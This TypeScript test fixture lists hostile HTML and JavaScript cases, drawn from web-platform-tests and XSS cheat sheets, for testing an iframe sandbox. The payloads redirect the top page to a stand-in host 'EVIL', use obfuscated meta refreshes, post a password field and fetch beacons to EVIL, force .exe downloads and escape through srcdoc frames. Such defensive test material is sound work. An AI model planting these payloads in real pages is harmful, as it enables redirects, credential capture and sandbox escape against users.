import type { HostileCase } from '../hostileCase.ts';

const WPT_SANDBOX = 'web-platform-tests: html/browsers/sandboxing and iframe sandbox navigation tests';
const H5 = 'cure53 H5SC (html5sec.org)';
const OVER_ALL = 'position:fixed;inset:0';
const DOWNLOADS = 'web-platform-tests: html/semantics/embedded-content/the-iframe-element, sandbox allow-downloads';

/** Cases that try to navigate the page, a new window or their own frame, to download a file, or to change the history. */
export const NAVIGATION_CASES: readonly HostileCase[] = [
  { name: 'navigates the page by location', source: WPT_SANDBOX, javascript: `top.location = 'http://EVIL/top';` },
  {
    name: 'navigates the page by location.replace and a javascript: URL',
    source: WPT_SANDBOX,
    javascript: `attempt('javascript: in the page', () => { top.location.href = 'javascript:void(document.body.dataset.pwned = 1)'; }); top.location.replace('http://EVIL/replace');`,
  },
  {
    name: 'navigates the page by window.open with its name',
    source: WPT_SANDBOX,
    javascript: `open('http://EVIL/open', '_top'); open('http://EVIL/parent', '_parent');`,
  },
  {
    name: 'navigates the page by a link that the visitor clicks',
    source: WPT_SANDBOX,
    press: true,
    html: `<a style="${OVER_ALL}" target="_top" href="http://EVIL/link">Go</a>`,
  },
  {
    name: 'navigates the page by a form',
    source: WPT_SANDBOX,
    html: '<form id="go" target="_top" action="http://EVIL/form"></form>',
    javascript: 'go.submit();',
  },
  {
    name: 'navigates the page by a form that the visitor submits',
    source: WPT_SANDBOX,
    press: true,
    html: `<form target="_top" method="post" action="http://EVIL/form"><button style="${OVER_ALL}" name="password" value="x">Go</button></form>`,
  },
  {
    name: 'posts a form in its own frame',
    navigates: true,
    lengthensHistory: true,
    source: WPT_SANDBOX,
    html: '<form id="go" method="post" action="http://EVIL/form"><input name="x" value="y"></form>',
    javascript: 'setTimeout(() => go.submit(), 100);',
  },
  {
    name: 'refreshes itself by a meta element',
    navigates: true,
    source: H5,
    html: '<meta http-equiv="refresh" content="0;url=http://EVIL/refresh">',
  },
  {
    name: 'refreshes itself by a meta element created by script',
    navigates: true,
    source: H5,
    javascript: `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=http://EVIL/refresh'; document.head.append(meta);`,
  },
  {
    name: 'obfuscates the meta element’s attribute',
    navigates: true,
    source: 'PortSwigger XSS cheat sheet',
    html: '<META HTTP-EQUIV=\'Refresh\' CONTENT="0; URL=http://EVIL/a"><meta/http-equiv=refresh\tcontent="0;http://EVIL/b"><noscript><meta http-equiv="refresh" content="0;url=http://EVIL/c"></noscript>',
  },
  {
    name: 'navigates its own frame',
    navigates: true,
    lengthensHistory: true,
    source: WPT_SANDBOX,
    javascript: `setTimeout(() => { location.href = 'http://EVIL/self'; }, 100);`,
  },
  {
    name: 'navigates its own frame to a blob document',
    lengthensHistory: true,
    source: WPT_SANDBOX,
    javascript: `setTimeout(() => { location.href = URL.createObjectURL(new Blob(['<script>fetch("http://EVIL/blob", { mode: "no-cors" })<\\/script>'], { type: 'text/html' })); }, 100);`,
  },
  {
    name: 'sets the base URL',
    navigates: true,
    source: H5,
    html: '<base href="http://EVIL/" target="_top"><img src="image"><a id="go" href="x">x</a>',
    javascript: 'go.click();',
  },
  {
    name: 'opens a window when the visitor clicks',
    source: WPT_SANDBOX,
    press: true,
    html: `<button style="${OVER_ALL}" onclick="attempt('a window', () => window.open('http://EVIL/popup'))">Go</button>`,
  },
  {
    name: 'opens a window by a link that the visitor clicks',
    source: WPT_SANDBOX,
    press: true,
    html: `<a style="${OVER_ALL}" target="_blank" rel="opener" href="http://EVIL/blank">Go</a>`,
  },
  {
    name: 'downloads a file by a click of its own',
    source: DOWNLOADS,
    html: '<a id="go" download="x.exe" href="data:application/octet-stream,x">x</a>',
    javascript: 'go.click();',
  },
  {
    name: 'downloads a file when the visitor clicks',
    source: DOWNLOADS,
    press: true,
    html: `<a style="${OVER_ALL}" download="x.exe" href="data:application/octet-stream,x">Go</a>`,
  },
  {
    name: 'goes back in the history',
    source: 'web-platform-tests: sandboxed history.back; HTML: allowed by sandboxing to navigate',
    javascript: 'setTimeout(() => { history.back(); }, 100);',
  },
  {
    name: 'lengthens the history by pushState',
    lengthensHistory: true,
    source: 'XS-Leaks wiki: history length',
    javascript: `setTimeout(() => { for (let at = 0; at < 5; at += 1) history.pushState(at, '', '#' + at); }, 300);`,
  },
  {
    name: 'lengthens the history by fragments',
    lengthensHistory: true,
    source: 'XS-Leaks wiki: history length',
    javascript: `setTimeout(() => { location.hash = 'pwned'; setTimeout(() => { location.hash = 'again'; }, 50); }, 300);`,
  },
  {
    name: 'frames a page by every element that can',
    source: WPT_SANDBOX,
    html: '<iframe src="http://EVIL/iframe"></iframe><object data="http://EVIL/object"></object><embed src="http://EVIL/embed"><fencedframe></fencedframe><frameset><frame src="http://EVIL/frame"></frameset>',
  },
  {
    name: 'frames the site itself',
    source: 'OWASP Clickjacking Defense Cheat Sheet',
    javascript: `const frame = document.createElement('iframe'); frame.src = 'http://site.EVIL/'; document.body.append(frame);`,
  },
  {
    name: 'escapes its sandbox by a srcdoc frame',
    source: WPT_SANDBOX,
    html: `<iframe srcdoc="<script>try { top.document.body.dataset.pwned = 1; } catch {} fetch('http://EVIL/srcdoc', { mode: 'no-cors' });</script><img src='http://EVIL/image'>"></iframe>`,
  },
  {
    name: 'escapes its sandbox by a frame with a javascript: URL',
    source: H5,
    html: `<iframe src="javascript:fetch('http://EVIL/javascript', { mode: 'no-cors' });top.document.title = 'pwned'"></iframe>`,
  },
  {
    name: 'navigates the page from a nested frame',
    source: WPT_SANDBOX,
    html: `<iframe srcdoc="<script>top.location = 'http://EVIL/nested';</script>"></iframe>`,
  },
  {
    name: 'writes a document into a blank frame',
    source: WPT_SANDBOX,
    javascript: `const frame = document.body.appendChild(document.createElement('iframe')); frame.contentDocument.write('<img src="http://EVIL/written">');`,
  },
];
